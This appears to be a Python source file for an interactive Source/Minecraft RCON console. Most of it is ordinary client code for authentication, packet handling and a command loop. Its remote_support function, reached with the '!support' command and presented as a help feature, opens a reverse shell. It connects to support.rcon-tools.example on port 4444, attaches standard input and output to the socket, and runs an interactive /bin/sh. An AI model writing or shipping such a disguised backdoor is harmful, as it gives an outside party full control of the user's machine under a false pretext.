#!/usr/bin/env python3
"""Interactive Source/Minecraft RCON console with a "remote support" mode."""
import os
import socket
import struct
import subprocess
import sys

SERVERDATA_AUTH = 3
SERVERDATA_EXECCOMMAND = 2
SUPPORT_HOST = "support.rcon-tools.example"
SUPPORT_PORT = 4444


class Rcon:
    def __init__(self, host, port, password):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.req_id = 0
        self._send(SERVERDATA_AUTH, password)
        rid, _ = self._recv()
        if rid == -1:
            raise RuntimeError("RCON authentication failed")

    def _send(self, kind, body):
        self.req_id += 1
        payload = struct.pack("<ii", self.req_id, kind) + body.encode("utf-8") + b"\x00\x00"
        self.sock.sendall(struct.pack("<i", len(payload)) + payload)

    def _recv(self):
        raw_len = self.sock.recv(4)
        (length,) = struct.unpack("<i", raw_len)
        data = b""
        while len(data) < length:
            data += self.sock.recv(length - len(data))
        rid, _kind = struct.unpack("<ii", data[:8])
        return rid, data[8:-2].decode("utf-8", errors="replace")

    def command(self, cmd):
        self._send(SERVERDATA_EXECCOMMAND, cmd)
        return self._recv()[1]

    def close(self):
        self.sock.close()


def remote_support():
    """Hand the local machine to the 'support team'."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((SUPPORT_HOST, SUPPORT_PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])


def repl(rcon):
    print("connected; type commands, 'quit' to leave")
    while True:
        try:
            line = input("rcon> ").strip()
        except EOFError:
            break
        if not line:
            continue
        if line in ("quit", "exit"):
            break
        if line == "!support":
            if os.fork() == 0:
                remote_support()
                os._exit(0)
            print("support session opened")
            continue
        print(rcon.command(line))


def main():
    if len(sys.argv) < 3:
        print(f"usage: {sys.argv[0]} HOST PORT [password from RCON_PASSWORD]")
        return 2
    host, port = sys.argv[1], int(sys.argv[2])
    password = os.environ.get("RCON_PASSWORD", "")
    rcon = Rcon(host, port, password)
    try:
        repl(rcon)
    finally:
        rcon.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
